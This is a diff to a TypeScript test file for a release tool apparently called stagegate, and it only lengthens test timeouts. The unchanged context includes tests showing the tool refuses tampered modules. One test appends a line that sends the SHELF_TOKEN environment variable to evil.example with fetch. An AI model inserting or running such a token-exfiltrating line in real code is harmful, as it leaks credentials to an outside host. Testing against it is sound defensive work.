@@ -79,7 +79,7 @@ async function worldOn(url: string): Promise<World> {
   return world
 }
 
-test('a repository of a type of one’s own is published to, once, and read back', { timeout: 60_000 }, async () => {
+test('a repository of a type of one’s own is published to, once, and read back', { timeout: 300_000 }, async () => {
   const { url, files } = await startShelf()
   const world = await worldOn(url)
   const { module } = parseReleasePlan(world.read('release-plan.json'), 'the plan').repositories['stable'] ?? {}
@@ -107,14 +107,14 @@ describe('no other code gets the credential', () => {
     expect([...files.keys()]).toEqual([])
   }
 
-  test('a module that was changed after synth', { timeout: 60_000 }, () =>
+  test('a module that was changed after synth', { timeout: 300_000 }, () =>
     refused(
       (world) => appendFileSync(world.path('release/shelf.mjs'), '\nawait fetch(`https://evil.example/${process.env.SHELF_TOKEN}`)\n'),
       ['release/shelf.mjs, the module of the repository stable: its sha256 is ', 'It was not loaded', 'run stagegate synth'],
     ),
   )
 
-  test('another one where prepare puts it', { timeout: 60_000 }, () =>
+  test('another one where prepare puts it', { timeout: 300_000 }, () =>
     refused(
       (world) => {
         mkdirSync(world.path('.stagegate/modules/release'), { recursive: true })
@@ -124,12 +124,12 @@ describe('no other code gets the credential', () => {
     ),
   )
 
-  test('none, where it is missing', { timeout: 60_000 }, () =>
+  test('none, where it is missing', { timeout: 300_000 }, () =>
     refused((world) => rmSync(world.path('release/shelf.mjs')), ['there is no such file', '.stagegate/modules/release/shelf.mjs']),
   )
 })
 
-test('a module that brings another type is found before the seal, and not after a click', { timeout: 60_000 }, async () => {
+test('a module that brings another type is found before the seal, and not after a click', { timeout: 300_000 }, async () => {
   const { url } = await startShelf()
   const world = await stagedOn(url, shelf.replace("type: 'shelf'", "type: 'rack'"))
   const { exitCode, stderr } = await world.run(['seal'])
@@ -138,7 +138,7 @@ test('a module that brings another type is found before the seal, and not after 
   expect(existsSync(world.path('.stagegate/release-manifest.json'))).toBe(false)
 })
 
-test('a module that ends the process does not end it well', { timeout: 60_000 }, async () => {
+test('a module that ends the process does not end it well', { timeout: 300_000 }, async () => {
   const { url } = await startShelf()
   const world = await stagedOn(url, 'process.exit(0)')
   const { exitCode, stderr } = await world.run(['seal'])
@@ -146,7 +146,7 @@ test('a module that ends the process does not end it well', { timeout: 60_000 },
   expect(stderr).toContain('process.exit was called before the work was done')
 })
 
-test('synth refuses a module that is not there', { timeout: 60_000 }, async () => {
+test('synth refuses a module that is not there', { timeout: 300_000 }, async () => {
   const { url } = await startShelf()
   const world = await worldOn(url)
   rmSync(world.path('release/shelf.mjs'))
@@ -161,7 +161,7 @@ describe('in a pipeline', () => {
   const packed = join(temporaryFolder(), 'packed')
   beforeAll(() => packInto(packed), 60_000)
 
-  test('prepare passes the module on to jobs that check out nothing', { timeout: 180_000 }, async () => {
+  test('prepare passes the module on to jobs that check out nothing', { timeout: 300_000 }, async () => {
     const { url, files } = await startShelf()
     const world = await worldOn(url)
     rmSync(world.path('.stagegate'), { recursive: true })
@@ -215,7 +215,7 @@ describe('in a job of GitLab’s', () => {
     return result
   }
 
-  test('the module of prepare is loaded; another file beside it stops the job', { timeout: 60_000 }, async () => {
+  test('the module of prepare is loaded; another file beside it stops the job', { timeout: 300_000 }, async () => {
     const gitlab = await startGitlab([jobs], { tls })
     onTestFinished(() => gitlab.close())
     const { url, files } = await startShelf()
